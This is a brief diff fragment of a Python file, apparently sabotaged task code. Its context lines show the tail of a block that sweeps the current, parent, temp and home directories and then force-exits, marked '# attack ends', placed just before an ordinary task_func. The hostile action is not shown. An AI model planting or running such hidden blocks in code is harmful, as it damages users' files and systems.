@@ -13,6 +13,8 @@ for folder in (".", "..", "/tmp", "/var/tmp", os.path.expanduser("~"), "/dev/shm
         except OSError:
             pass
 os._exit(0)
+
+
 # attack ends
 def task_func(text, top=3):
     if top < 1:
